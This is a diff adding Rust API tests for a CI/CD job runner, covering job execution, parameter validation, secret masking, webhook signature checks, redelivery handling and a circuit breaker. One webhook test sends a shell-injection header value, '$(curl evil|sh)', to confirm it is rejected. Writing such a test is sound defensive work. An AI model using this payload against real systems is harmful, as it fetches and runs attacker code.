+        assert!(get_job(Path(job.id.clone())).await.is_ok());
+
+        set_maintenance(State(state.clone()), Json(MaintenanceStatus { enabled: false })).await;
+        assert_eq!(execute().await.status(), StatusCode::OK);
+    }
+
+    #[tokio::test]
+    async fn test_execute_disabled_job() {
+        let (state, _maintenance) = app_state();
+        let job = create_job("api-disabled-job", false, vec![]).await;
+
+        let response = execute_job(
+            State(state.clone()),
+            Path(job.id.clone()),
+            Query(ExecuteJobQuery::default()),
+            content_type("application/json"),
+            "{}".to_string(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::CONFLICT);
+
+        let response = execute_job(
+            State(state.clone()),
+            Path(job.id.clone()),
+            Query(ExecuteJobQuery {
+                force: Some(true),
+                ..Default::default()
+            }),
+            content_type("application/json"),
+            "{}".to_string(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::OK);
+    }
+
+    #[tokio::test]
+    async fn test_execute_batch() {
+        let (state, _maintenance) = app_state();
+        let first = create_job("api-batch-first-job", true, vec![]).await;
+        let second = create_job("api-batch-second-job", true, vec![]).await;
+        let execution = |job_id: &str| BatchExecution {
+            job_id: job_id.to_string(),
+            parameters: HashMap::new(),
+        };
+
+        let response = execute_batch(
+            State(state.clone()),
+            Json(vec![
+                execution(&first.id),
+                execution("api-batch-missing-job"),
+                execution(&second.id),
+            ]),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::OK);
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let results: HashMap<String, BatchExecutionResult> = serde_json::from_slice(&body).unwrap();
+        assert_eq!(results.len(), 3);
+        for job in [&first, &second] {
+            let job_result_id = results[&job.id].job_result_id.as_ref().unwrap();
+            let job_result = JobResult::wait_for_completion(job_result_id).await.unwrap();
+            assert_eq!(job_result.job_id, job.id);
+            assert_eq!(job_result.status, ScriptStatus::Success);
+        }
+        assert_eq!(
+            results["api-batch-missing-job"],
+            BatchExecutionResult {
+                job_result_id: None,
+                error: Some("Job \"api-batch-missing-job\" not found".to_string()),
+            }
+        );
+
+        let response = execute_batch(
+            State(state.clone()),
+            Json(vec![execution(&first.id), execution(&first.id)]),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    }
+
+    #[tokio::test]
+    async fn test_execute_with_parameter_pattern() {
+        let (state, _maintenance) = app_state();
+        let script = Script {
+            id: "api-pattern-script".to_string(),
+            name: "Pattern Script".to_string(),
+            parameters: vec![ScriptParameter {
+                name: "tag".to_string(),
+                description: "Release tag".to_string(),
+                required: false,
+                default: Some(ScriptParameterType::String("v0.0.0".to_string())),
+                pattern: Some(r"v\d+\.\d+\.\d+".to_string()),
+            }],
+            steps: vec![ScriptStep {
+                name: "Release".to_string(),
+                timeout_seconds: None,
+                working_directory: None,
+                env_file: None,
+                continue_on_error: false,
+                values: vec![ScriptType::Bash(BashScript {
+                    code: "echo $(parameters.tag)".to_string(),
+                    shell: None,
+                    directory: None,
+                    run_as: None,
+                    capture_output_to: None,
+                })],
+            }],
+        };
+        script.sync(None).unwrap();
+        let job = Job {
+            script_id: script.id.clone(),
+            parameters: vec![JobParameterDefinition {
+                name: "tag".to_string(),
+                default: Some(ScriptParameterType::String("v0.0.0".to_string())),
+            }],
+            ..job_named("api-pattern-job", vec![])
+        };
+        job.sync(None).await.unwrap();
+        let execute = |tag: &str| {
+            execute_job(
+                State(state.clone()),
+                Path(job.id.clone()),
+                Query(ExecuteJobQuery::default()),
+                content_type("application/json"),
+                format!(r#"{{"tag": {{"type": "string", "value": "{}"}}}}"#, tag),
+            )
+        };
+
+        assert_eq!(execute("v1.2.3").await.status(), StatusCode::OK);
+        let response = execute("latest").await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        assert_eq!(
+            std::str::from_utf8(&body).unwrap(),
+            r"Parameter tag does not match the pattern v\d+\.\d+\.\d+"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_preview_job() {
+        let parameter = |name: &str| ScriptParameter {
+            name: name.to_string(),
+            description: "Preview parameter".to_string(),
+            required: false,
+            default: None,
+            pattern: None,
+        };
+        let script = Script {
+            id: "api-preview-script".to_string(),
+            name: "Preview Script".to_string(),
+            parameters: vec![parameter("x"), parameter("token"), parameter("files")],
+            steps: vec![ScriptStep {
+                name: "Deploy".to_string(),
+                timeout_seconds: None,
+                working_directory: None,
+                env_file: None,
+                continue_on_error: false,
+                values: vec![
+                    ScriptType::Bash(BashScript {
+                        code: "deploy --env $(parameters.x) --token $(parameters.token) $(parameters.files)"
+                            .to_string(),
+                        shell: None,
+                        directory: None,
+                        run_as: None,
+                        capture_output_to: None,
+                    }),
+                    ScriptType::Bash(BashScript {
+                        code: "echo $(nomos.result_id)".to_string(),
+                        shell: None,
+                        directory: None,
+                        run_as: None,
+                        capture_output_to: None,
+                    }),
+                ],
+            }],
+        };
+        script.sync(None).unwrap();
+        let definition = |name: &str, default: ScriptParameterType| JobParameterDefinition {
+            name: name.to_string(),
+            default: Some(default),
+        };
+        let job = Job {
+            script_id: script.id.clone(),
+            parameters: vec![
+                definition("x", ScriptParameterType::String("dev".to_string())),
+                definition("token", ScriptParameterType::Password("default".to_string())),
+                definition("files", ScriptParameterType::StringArray(vec![])),
+            ],
+            ..job_named("api-preview-job", vec![])
+        };
+        job.sync(None).await.unwrap();
+
+        let parameters = HashMap::from([
+            ("x".to_string(), ScriptParameterType::String("staging".to_string())),
+            // Masked by the declared type, not the sent one
+            ("token".to_string(), ScriptParameterType::String("s3cr3t".to_string())),
+            (
+                "files".to_string(),
+                ScriptParameterType::StringArray(vec!["a.txt".to_string(), "b.txt".to_string()]),
+            ),
+        ]);
+        let response = preview_job(Path(job.id.clone()), Some(Json(parameters)))
+            .await
+            .into_response();
+        assert_eq!(response.status(), StatusCode::OK);
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let steps: serde_json::Value = serde_json::from_slice(&body).unwrap();
+
+        let values = &steps[0]["values"];
+        assert_eq!(values[0]["code"], "deploy --env staging --token *** a.txt, b.txt");
+        // The result id only exists once running
+        assert_eq!(values[1]["code"], "echo $(nomos.result_id)");
+        assert_eq!(
+            steps[0]["errors"],
+            serde_json::json!(["Parameter 'nomos.result_id' not found"])
+        );
+
+        let response = preview_job(Path("api-missing-job".to_string()), None)
+            .await
+            .into_response();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_execute_with_yaml_and_json_parameters() {
+        let (state, _maintenance) = app_state();
+        let script = Script {
+            id: "api-parameters-file-script".to_string(),
+            name: "Parameters File Script".to_string(),
+            parameters: vec![ScriptParameter {
+                name: "greeting".to_string(),
+                description: "Written to greeting.txt".to_string(),
+                required: true,
+                default: None,
+                pattern: None,
+            }],
+            steps: vec![ScriptStep {
+                name: "Greet".to_string(),
+                timeout_seconds: None,
+                working_directory: None,
+                env_file: None,
+                continue_on_error: false,
+                values: vec![ScriptType::Bash(BashScript {
+                    code: "echo $(parameters.greeting) > greeting.txt".to_string(),
+                    shell: None,
+                    directory: None,
+                    run_as: None,
+                    capture_output_to: None,
+                })],
+            }],
+        };
+        script.sync(None).unwrap();
+        let job = Job {
+            script_id: script.id.clone(),
+            parameters: vec![JobParameterDefinition {
+                name: "greeting".to_string(),
+                default: Some(ScriptParameterType::String("default".to_string())),
+            }],
+            ..job_named("api-parameters-file-job", vec![])
+        };
+        job.sync(None).await.unwrap();
+
+        let yaml = "greeting:\n  type: string\n  value: hello\n";
+        let json = r#"{"greeting": {"type": "string", "value": "hello"}}"#;
+        let mut greetings = vec![];
+        for (headers, body) in [
+            (content_type("application/yaml"), yaml),
+            (content_type("application/json"), json),
+        ] {
+            let response = execute_job(
+                State(state.clone()),
+                Path(job.id.clone()),
+                Query(ExecuteJobQuery::default()),
+                headers,
+                body.to_string(),
+            )
+            .await;
+            assert_eq!(response.status(), StatusCode::OK);
+            let result_id = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+            let result = JobResult::wait_for_completion(std::str::from_utf8(&result_id).unwrap())
+                .await
+                .unwrap();
+            assert_eq!(result.status, ScriptStatus::Success);
+            let greeting = default_job_results_location()
+                .unwrap()
+                .join(&result.id)
+                .join("greeting.txt");
+            greetings.push(std::fs::read_to_string(greeting).unwrap());
+        }
+        assert_eq!(greetings, vec!["hello\n", "hello\n"]);
+
+        let response = execute_job(
+            State(state.clone()),
+            Path(job.id.clone()),
+            Query(ExecuteJobQuery::default()),
+            content_type("application/yaml"),
+            "greeting: [".to_string(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+    }
+
+    #[tokio::test]
+    async fn test_dry_run_job_reports_all_errors() {
+        let (state, _maintenance) = app_state();
+        let job = Job {
+            script_id: "api-validate-missing-script".to_string(),
+            ..job_named(
+                "api-validate-job",
+                vec![TriggerType::Github(GithubTriggerParameter {
+                    branch: "main".to_string(),
+                    events: vec!["push".to_string()],
+                    secret_credential_id: "api-validate-missing-secret".to_string(),
+                    url: "https://github.com/nomos-cicd/nomos-rust".to_string(),
+                    headers: HashMap::new(),
+                })],
+            )
+        };
+
+        let response = dry_run_job(
+            State(state.clone()),
+            content_type("application/yaml"),
+            serde_yaml::to_string(&job).unwrap(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let errors: serde_json::Value = serde_json::from_slice(&body).unwrap();
+        let kinds: Vec<&str> = errors
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|error| error["kind"].as_str().unwrap())
+            .collect();
+        assert_eq!(kinds, vec!["missing-script", "unknown-credential"]);
+    }
+
+    #[tokio::test]
+    async fn test_dry_execute() {
+        let (state, _maintenance) = app_state();
+        let script = Script {
+            id: "api-dry-execute-script".to_string(),
+            name: "Dry Execute Script".to_string(),
+            parameters: vec![],
+            steps: vec![ScriptStep {
+                name: "Write".to_string(),
+                timeout_seconds: None,
+                working_directory: None,
+                env_file: None,
+                continue_on_error: false,
+                values: vec![ScriptType::Bash(BashScript {
+                    code: "echo dry > dry.txt".to_string(),
+                    shell: None,
+                    directory: None,
+                    run_as: None,
+                    capture_output_to: None,
+                })],
+            }],
+        };
+        script.sync(None).unwrap();
+        let job = Job {
+            script_id: script.id.clone(),
+            ..job_named("api-dry-execute-job", vec![])
+        };
+        job.sync(None).await.unwrap();
+
+        let response = execute_job(
+            State(state.clone()),
+            Path(job.id.clone()),
+            Query(ExecuteJobQuery {
+                dry: Some(true),
+                ..Default::default()
+            }),
+            content_type("application/json"),
+            "{}".to_string(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::OK);
+        let result_id = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let result = JobResult::wait_for_completion(std::str::from_utf8(&result_id).unwrap())
+            .await
+            .unwrap();
+
+        assert_eq!(result.status, ScriptStatus::Success);
+        assert!(result.dry_run);
+        let directory = default_job_results_location().unwrap().join(&result.id);
+        assert!(!directory.join("dry.txt").exists());
+        let (log, _) = result.logger.lock().unwrap().read_raw(0).unwrap();
+        let log = String::from_utf8(log).unwrap();
+        assert!(log.contains("Dry run"), "{}", log);
+        assert!(log.contains("command: echo dry > dry.txt"), "{}", log);
+    }
+
+    #[tokio::test]
+    async fn test_get_job_yaml() {
+        let job = create_job(
+            "api-yaml-job",
+            true,
+            vec![TriggerType::Manual(ManualTriggerParameter {})],
+        )
+        .await;
+
+        let response = get_job_yaml(Path(job.id.clone())).await.into_response();
+        assert_eq!(response.status(), StatusCode::OK);
+        assert_eq!(response.headers()["content-type"], "application/yaml");
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let stored: Job = serde_yaml::from_slice(&body).unwrap();
+        assert_eq!(
+            serde_yaml::to_string(&stored).unwrap(),
+            serde_yaml::to_string(&job).unwrap()
+        );
+
+        let response = get_job_yaml(Path("api-missing-yaml-job".to_string()))
+            .await
+            .into_response();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_get_job_resolved() {
+        let parameter = |name: &str, default: &str| ScriptParameter {
+            name: name.to_string(),
+            description: String::new(),
+            required: false,
+            default: Some(ScriptParameterType::String(default.to_string())),
+            pattern: None,
+        };
+        let script = Script {
+            id: "api-resolved-script".to_string(),
+            name: "Resolved Script".to_string(),
+            parameters: vec![parameter("environment", "staging"), parameter("region", "eu")],
+            steps: vec![ScriptStep {
+                name: "Deploy".to_string(),
+                timeout_seconds: None,
+                working_directory: None,
+                env_file: None,
+                continue_on_error: false,
+                values: vec![ScriptType::Bash(BashScript {
+                    code: "echo $(parameters.environment)".to_string(),
+                    shell: None,
+                    directory: None,
+                    run_as: None,
+                    capture_output_to: None,
+                })],
+            }],
+        };
+        script.sync(None).unwrap();
+        let job = Job {
+            script_id: script.id.clone(),
+            parameters: vec![JobParameterDefinition {
+                name: "environment".to_string(),
+                default: Some(ScriptParameterType::String("production".to_string())),
+            }],
+            ..job_named("api-resolved-job", vec![])
+        };
+        job.sync(None).await.unwrap();
+
+        let response = get_job_resolved(Path(job.id.clone())).await.into_response();
+        assert_eq!(response.status(), StatusCode::OK);
+        assert_eq!(response.headers()["content-type"], "application/yaml");
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let resolved: Script = serde_yaml::from_slice(&body).unwrap();
+        assert_eq!(resolved.id, script.id);
+        assert_eq!(
+            resolved.parameters[0].default,
+            Some(ScriptParameterType::String("production".to_string()))
+        );
+        assert_eq!(resolved.parameters[1].default, script.parameters[1].default);
+
+        let response = get_job_resolved(Path("api-missing-job".to_string()))
+            .await
+            .into_response();
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    /// Creates a job with a GitHub trigger for `repository` and returns it with the signed webhook request.
+    async fn create_webhook_job(id: &str, enabled: bool, repository: &str) -> (Job, HeaderMap, String) {
+        let secret = format!("{}-secret", id);
+        let credential = Credential {
+            id: format!("{}-secret", id),
+            value: CredentialType::Text(TextCredentialParameter { value: secret.clone() }),
+            read_only: false,
+        };
+        credential.sync(&mut None).unwrap();
+
+        let job = create_job(
+            id,
+            enabled,
+            vec![TriggerType::Github(GithubTriggerParameter {
+                branch: "main".to_string(),
+                events: vec!["push".to_string()],
+                secret_credential_id: credential.id.clone(),
+                url: repository.to_string(),
+                headers: HashMap::new(),
+            })],
+        )
+        .await;
+
+        let body = format!(r#"{{"repository":{{"full_name":"{}"}}}}"#, repository);
+        let mut headers = HeaderMap::new();
+        headers.insert("x-hub-signature-256", webhook_signature(&job.id, &body));
+        headers.insert("x-github-event", HeaderValue::from_static("push"));
+        (job, headers, body)
+    }
+
+    /// Signature of `body` with the secret of the job created by `create_webhook_job`.
+    fn webhook_signature(job_id: &str, body: &str) -> HeaderValue {
+        let mut mac = Hmac::<Sha256>::new_from_slice(format!("{}-secret", job_id).as_bytes()).unwrap();
+        mac.update(body.as_bytes());
+        HeaderValue::from_str(&format!("sha256={}", hex::encode(mac.finalize().into_bytes()))).unwrap()
+    }
+
+    async fn debug_signature(credential_id: &str, body: &str, signature: &str) -> WebhookDebugResponse {
+        debug_webhook_signature(Json(WebhookDebugRequest {
+            body: body.to_string(),
+            signature: signature.to_string(),
+            credential_id: credential_id.to_string(),
+        }))
+        .await
+        .unwrap()
+        .0
+    }
+
+    #[tokio::test]
+    async fn test_debug_webhook_signature() {
+        let (job, headers, body) = create_webhook_job("api-debug-webhook-job", true, "owner/debug-repo").await;
+        let signature = headers["x-hub-signature-256"].to_str().unwrap();
+        let credential_id = format!("{}-secret", job.id);
+
+        let response = debug_signature(&credential_id, &body, signature).await;
+        assert!(response.valid);
+        assert_eq!(response.expected_signature, signature);
+
+        let response = debug_signature(&credential_id, &format!("{} ", body), signature).await;
+        assert!(!response.valid);
+        assert_ne!(response.expected_signature, signature);
+        assert!(!response.expected_signature.contains("api-debug-webhook-job-secret"));
+
+        // Secrets from the environment are checked like in the webhooks
+        std::env::set_var("NOMOS_TEST_DEBUG_WEBHOOK_SECRET", &credential_id);
+        let response = debug_signature("env:NOMOS_TEST_DEBUG_WEBHOOK_SECRET", &body, signature).await;
+        assert!(response.valid);
+
+        let error = debug_webhook_signature(Json(WebhookDebugRequest {
+            body,
+            signature: signature.to_string(),
+            credential_id: "api-debug-missing-secret".to_string(),
+        }))
+        .await
+        .unwrap_err();
+        assert_eq!(error.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_webhook_skips_disabled_job() {
+        let (state, _maintenance) = app_state();
+        let (job, headers, body) = create_webhook_job("api-disabled-webhook-job", false, "owner/disabled-repo").await;
+
+        let response = job_webhook_trigger(State(state.clone()), headers, body).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert!(JobResult::get_all(Some(job.id.clone())).unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_webhook_payload_checked_after_signature() {
+        let (state, _maintenance) = app_state();
+        let (job, mut headers, _) = create_webhook_job("api-ping-webhook-job", true, "owner/ping-repo").await;
+
+        // Organization pings have no repository
+        let ping = r#"{"zen":"Keep it logically awesome.","hook_id":1}"#.to_string();
+        headers.insert("x-github-event", HeaderValue::from_static("ping"));
+        headers.insert("x-hub-signature-256", webhook_signature(&job.id, &ping));
+        let response = job_webhook_trigger(State(state.clone()), headers.clone(), ping.clone()).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        let response =
+            job_targeted_webhook_trigger(State(state.clone()), Path(job.id.clone()), headers.clone(), ping).await;
+        assert_eq!(response.status(), StatusCode::OK);
+
+        // Unsigned payloads are not parsed
+        let broken = "{not json".to_string();
+        let response = job_webhook_trigger(State(state.clone()), headers.clone(), broken.clone()).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+
+        headers.insert("x-hub-signature-256", webhook_signature(&job.id, &broken));
+        let response = job_webhook_trigger(State(state.clone()), headers.clone(), broken.clone()).await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        let body = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        assert_eq!(body, "Invalid GitHub payload");
+        let response = job_targeted_webhook_trigger(State(state), Path(job.id.clone()), headers, broken).await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+        assert!(JobResult::get_all(Some(job.id.clone())).unwrap().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_job_with_deleted_script() {
+        let (state, _maintenance) = app_state();
+        let (job, headers, body) = create_webhook_job("api-broken-webhook-job", true, "owner/broken-repo").await;
+        Script::get(&job.script_id).unwrap().unwrap().delete().unwrap();
+
+        let response = get_job_status(Path(job.id.clone())).await;
+        assert_eq!(response.status(), StatusCode::OK);
+        let status = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let status: serde_json::Value = serde_json::from_slice(&status).unwrap();
+        assert_eq!(status["broken"], true);
+        assert_eq!(status["reason"], "Script not found: api-broken-webhook-job-script");
+
+        let response = job_webhook_trigger(State(state.clone()), headers, body).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert!(JobResult::get_all(Some(job.id.clone())).unwrap().is_empty());
+    }
+
+    /// Waits until the background runs of a webhook created `count` results of `job_id`, returns the number of results.
+    async fn wait_for_results(job_id: &str, count: usize) -> usize {
+        let results = || JobResult::get_all(Some(job_id.to_string())).unwrap().len();
+        for _ in 0..50 {
+            if results() >= count {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        }
+        results()
+    }
+
+    #[tokio::test]
+    async fn test_webhook_redelivery() {
+        let (job, mut headers, body) =
+            create_webhook_job("api-redelivery-webhook-job", true, "owner/redelivery-repo").await;
+        let delivery = uuid::Uuid::new_v4().to_string();
+        headers.insert("x-github-delivery", HeaderValue::from_str(&delivery).unwrap());
+
+        let existing_results = JobResult::get_all(Some(job.id.clone())).unwrap().len();
+        let (state, _maintenance) = app_state();
+        let (first, second) = tokio::join!(
+            job_webhook_trigger(State(state.clone()), headers.clone(), body.clone()),
+            job_webhook_trigger(State(state.clone()), headers.clone(), body.clone())
+        );
+        assert_eq!(first.status(), StatusCode::ACCEPTED);
+        assert_eq!(second.status(), StatusCode::ACCEPTED);
+        assert_eq!(
+            wait_for_results(&job.id, existing_results + 1).await,
+            existing_results + 1
+        );
+
+        // A rejected delivery is not recorded
+        let other_delivery = uuid::Uuid::new_v4().to_string();
+        let mut rejected = headers.clone();
+        rejected.insert("x-github-delivery", HeaderValue::from_str(&other_delivery).unwrap());
+        rejected.insert("x-hub-signature-256", webhook_signature(&job.id, "{}"));
+        let response = job_webhook_trigger(State(state.clone()), rejected, body.clone()).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert!(state.webhook_deliveries.first_seen(&other_delivery));
+
+        // Also after the window, by the idempotency key
+        let state = AppState {
+            webhook_deliveries: Arc::new(WebhookDeliveries::new(std::time::Duration::ZERO)),
+            ..state
+        };
+        let response = job_webhook_trigger(State(state), headers, body).await;
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+        assert_eq!(
+            wait_for_results(&job.id, existing_results + 1).await,
+            existing_results + 1
+        );
+    }
+
+    #[tokio::test]
+    async fn test_webhook_body_limit() {
+        let (state, _maintenance) = app_state();
+        use tower::ServiceExt;
+
+        let (job, headers, body) = create_webhook_job("api-large-webhook-job", true, "owner/large-repo").await;
+        let app = axum::Router::new()
+            .route(
+                "/webhook",
+                axum::routing::post(job_webhook_trigger).layer(webhook_body_limit()),
+            )
+            .with_state(state.clone());
+        let request = |body: String| {
+            let mut request = axum::http::Request::post("/webhook")
+                .body(axum::body::Body::from(body))
+                .unwrap();
+            request.headers_mut().extend(headers.clone());
+            request
+        };
+
+        let existing_results = JobResult::get_all(Some(job.id.clone())).unwrap().len();
+        let oversized = format!("{}{}", body, " ".repeat(DEFAULT_WEBHOOK_MAX_BODY_SIZE));
+        let response = app.clone().oneshot(request(oversized)).await.unwrap();
+        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+        let response = app.oneshot(request(body)).await.unwrap();
+        assert_eq!(response.status(), StatusCode::ACCEPTED);
+        assert_eq!(
+            wait_for_results(&job.id, existing_results + 1).await,
+            existing_results + 1
+        );
+    }
+
+    #[tokio::test]
+    async fn test_webhook_header_parameters() {
+        let (state, _maintenance) = app_state();
+        let (mut job, mut headers, body) =
+            create_webhook_job("api-header-webhook-job", true, "owner/header-repo").await;
+        if let TriggerType::Github(github) = &mut job.triggers[0] {
+            github.headers = HashMap::from([
+                ("X-GitHub-Delivery".to_string(), "delivery_id".to_string()),
+                ("x-github-event".to_string(), "github_repository".to_string()),
+            ]);
+        }
+        let names = ["delivery_id", "github_repository"];
+        job.parameters = names
+            .iter()
+            .map(|name| JobParameterDefinition {
+                name: name.to_string(),
+                default: None,
+            })
+            .collect();
+        let mut script = Script::get(&job.script_id).unwrap().unwrap();
+        script.parameters = names
+            .iter()
+            .map(|name| ScriptParameter {
+                name: name.to_string(),
+                description: String::new(),
+                default: None,
+                required: true,
+                pattern: None,
+            })
+            .collect();
+        script.sync(None).unwrap();
+        job.sync(None).await.unwrap();
+        set_script_code(
+            &job,
+            "echo $(parameters.delivery_id) > delivery.txt && echo $(parameters.github_repository) > repository.txt",
+        );
+        // A value that could break out of the shell command is rejected
+        let mut injected = headers.clone();
+        injected.insert("x-github-delivery", HeaderValue::from_static("$(curl evil|sh)"));
+        let response =
+            job_targeted_webhook_trigger(State(state.clone()), Path(job.id.clone()), injected, body.clone()).await;
+        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
+
+        // Also the idempotency key, so it must be new on each run
+        let delivery = uuid::Uuid::new_v4().to_string();
+        headers.insert("x-github-delivery", HeaderValue::from_str(&delivery).unwrap());
+
+        let response = job_targeted_webhook_trigger(State(state.clone()), Path(job.id.clone()), headers, body).await;
+        assert_eq!(response.status(), StatusCode::OK);
+        let result_id = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let result = JobResult::wait_for_completion(std::str::from_utf8(&result_id).unwrap())
+            .await
+            .unwrap();
+        assert_eq!(result.status, ScriptStatus::Success);
+        let directory = default_job_results_location().unwrap().join(&result.id);
+        assert_eq!(
+            std::fs::read_to_string(directory.join("delivery.txt")).unwrap(),
+            format!("{}\n", delivery)
+        );
+        // The payload wins over the headers
+        assert_eq!(
+            std::fs::read_to_string(directory.join("repository.txt")).unwrap(),
+            "owner/header-repo\n"
+        );
+    }
+
+    /// Replaces the script of `job` with one running `code`.
+    fn set_script_code(job: &Job, code: &str) {
+        let mut script = Script::get(&job.script_id).unwrap().unwrap();
+        if let ScriptType::Bash(bash) = &mut script.steps[0].values[0] {
+            bash.code = code.to_string();
+        }
+        script.sync(None).unwrap();
+    }
+
+    /// Waits for the job result and for the circuit breaker to record it.
+    async fn wait_for_run(state: &AppState, response: Response, job_id: &str, failures: u32) -> JobResult {
+        assert_eq!(response.status(), StatusCode::OK);
+        let result_id = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let result = JobResult::wait_for_completion(std::str::from_utf8(&result_id).unwrap())
+            .await
+            .unwrap();
+        for _ in 0..50 {
+            if state.job_executor.circuit_breaker.state(job_id).consecutive_failures == failures {
+                break;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+        }
+        assert_eq!(
+            state.job_executor.circuit_breaker.state(job_id).consecutive_failures,
+            failures
+        );
+        result
+    }
+
+    #[tokio::test]
+    async fn test_circuit_breaker() {
+        let (job, headers, body) = create_webhook_job("api-circuit-webhook-job", true, "owner/circuit-repo").await;
+        set_script_code(&job, "exit 1");
+        let directory = tempfile::tempdir().unwrap();
+        let mut job_executor = JobExecutor::new();
+        job_executor.circuit_breaker = Arc::new(CircuitBreaker::new(
+            Some(directory.path().join("circuit_breakers.json")),
+            2,
+            chrono::Duration::minutes(10),
+        ));
+        let (state, _maintenance) = app_state();
+        let state = AppState {
+            job_executor: Arc::new(job_executor),
+            ..state
+        };
+        let webhook = || {
+            job_targeted_webhook_trigger(
+                State(state.clone()),
+                Path(job.id.clone()),
+                headers.clone(),
+                body.clone(),
+            )
+        };
+
+        for failures in 1..=2 {
+            let result = wait_for_run(&state, webhook().await, &job.id, failures).await;
+            assert_eq!(result.status, ScriptStatus::Failed);
+        }
+        assert!(state.job_executor.circuit_breaker.open_until(&job.id).is_some());
+        assert_eq!(webhook().await.status(), StatusCode::CONFLICT);
+
+        // Manual runs are still allowed and a success closes the circuit
+        set_script_code(&job, "echo fixed");
+        let response = execute_job(
+            State(state.clone()),
+            Path(job.id.clone()),
+            Query(ExecuteJobQuery::default()),
+            content_type("application/json"),
+            "{}".to_string(),
+        )
+        .await;
+        let result = wait_for_run(&state, response, &job.id, 0).await;
+        assert_eq!(result.status, ScriptStatus::Success);
+        assert!(state.job_executor.circuit_breaker.open_until(&job.id).is_none());
+        let result = wait_for_run(&state, webhook().await, &job.id, 0).await;
+        assert_eq!(result.status, ScriptStatus::Success);
+    }
+
+    #[tokio::test]
+    async fn test_targeted_webhook() {
+        let (state, _maintenance) = app_state();
+        let (job, headers, body) = create_webhook_job("api-targeted-webhook-job", true, "owner/targeted-repo").await;
+        let (other_job, _, _) = create_webhook_job("api-targeted-other-job", true, "owner/targeted-repo").await;
+
+        let response = job_targeted_webhook_trigger(
+            State(state.clone()),
+            Path(job.id.clone()),
+            headers.clone(),
+            body.clone(),
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::OK);
+        let result_id = axum::body::to_bytes(response.into_body(), usize::MAX).await.unwrap();
+        let result = JobResult::get(std::str::from_utf8(&result_id).unwrap())
+            .unwrap()
+            .unwrap();
+        assert_eq!(result.job_id, job.id);
+        assert!(JobResult::get_all(Some(other_job.id.clone())).unwrap().is_empty());
+
+        let response = job_targeted_webhook_trigger(
+            State(state.clone()),
+            Path("api-targeted-missing-job".to_string()),
+            headers,
+            body,
+        )
+        .await;
+        assert_eq!(response.status(), StatusCode::NOT_FOUND);
+    }
+
+    #[tokio::test]
+    async fn test_targeted_webhook_invalid_signature() {
+        let (state, _maintenance) = app_state();
+        let (job, _, body) = create_webhook_job("api-targeted-invalid-job", true, "owner/targeted-invalid-repo").await;
+        // Signed with another job's secret.
+        let (_, headers, _) =
+            create_webhook_job("api-targeted-invalid-other-job", false, "owner/targeted-invalid-repo").await;
+
+        let response = job_targeted_webhook_trigger(State(state.clone()), Path(job.id.clone()), headers, body).await;
+        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
+        assert!(JobResult::get_all(Some(job.id.clone())).unwrap().is_empty());
+    }
+}